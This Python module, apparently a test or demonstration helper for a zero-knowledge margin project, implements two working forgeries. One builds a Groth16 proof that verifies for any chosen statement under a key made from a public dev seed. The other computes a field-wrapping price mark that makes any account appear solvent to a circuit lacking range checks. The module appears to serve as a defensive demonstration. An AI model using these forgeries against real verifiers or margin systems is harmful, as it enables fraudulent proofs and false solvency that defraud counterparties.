"""Forgeries: a Groth16 proof for any public signals under a key made from the public dev seed, and a published
mark that wraps the field arithmetic of a circuit that does not range-check it.

snarkjs keys have ``gamma_2 = G2``; with ``L = IC[0] + Σ xᵢ·IC[i+1]`` and alpha, beta from the seed,
``A = (alpha·beta)·G1 + L``, ``B = G2 + delta_2``, ``C = A`` gives
``e(A, B) = e(A, G2)·e(C, delta) = e(alpha, beta)·e(L, gamma)·e(C, delta)``: the verification equation holds
for whatever statement the forger picks.  This is why a dev key must be recognised wherever proofs are checked.

:func:`wrapping_mark` is the value a venue would publish to make ``qty * mark`` any chosen field element: with
``qty = 8`` it is a 251-bit mark whose 8 lots are worth about 2^100 micro-units modulo r, enough to make any
account look solvent to a circuit that trusts the published marks.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from typing import Any

from py_ecc.fields import optimized_bn128_FQ as FQ
from py_ecc.fields import optimized_bn128_FQ2 as FQ2
from py_ecc.optimized_bn128.optimized_curve import G1, G2, add, multiply, normalize

from zkmargin.constants import FIELD_ORDER
from zkmargin.toolchain.devptau import DEV_SEED, dev_secrets

Point = Any


def _g1(coords: Sequence[str]) -> Point:
    return (FQ(int(coords[0])), FQ(int(coords[1])), FQ(1))


def _g2(coords: Sequence[Sequence[str]]) -> Point:
    return (FQ2([int(coords[0][0]), int(coords[0][1])]), FQ2([int(coords[1][0]), int(coords[1][1])]), FQ2([1, 0]))


def forge_proof(vkey: Mapping[str, Any], public_signals: Sequence[int], seed: str = DEV_SEED) -> dict[str, Any]:
    """A snarkjs ``proof.json`` that verifies under ``vkey`` (a dev key of ``seed``) for ``public_signals``."""
    secrets = dev_secrets(seed)
    acc = _g1(vkey["IC"][0])
    for x, ic in zip(public_signals, vkey["IC"][1:], strict=True):
        acc = add(acc, multiply(_g1(ic), x % FIELD_ORDER))
    a = normalize(add(multiply(G1, secrets.alpha * secrets.beta % FIELD_ORDER), acc))
    b = normalize(add(G2, _g2(vkey["vk_delta_2"])))
    pi_a = [str(int(a[0])), str(int(a[1])), "1"]
    return {"pi_a": pi_a, "pi_b": [[str(b[0].coeffs[0]), str(b[0].coeffs[1])],
                                   [str(b[1].coeffs[0]), str(b[1].coeffs[1])], ["1", "0"]],
            "pi_c": pi_a, "protocol": "groth16", "curve": "bn128"}


def wrapping_mark(qty: int, at_least: int) -> tuple[int, int]:
    """A mark that wraps: ``(mark, value)`` with ``qty * mark == r + value`` over the integers, so ``qty * mark``
    is ``value`` modulo r, and ``at_least <= value < at_least + qty``.

    ``mark = (r + value) / qty`` is about ``r / qty``: 251 bits for ``qty = 8``.  ``qty >= 1`` lots,
    ``0 <= at_least < r - qty``.
    """
    value = at_least + (-(FIELD_ORDER + at_least)) % qty
    return (FIELD_ORDER + value) // qty, value
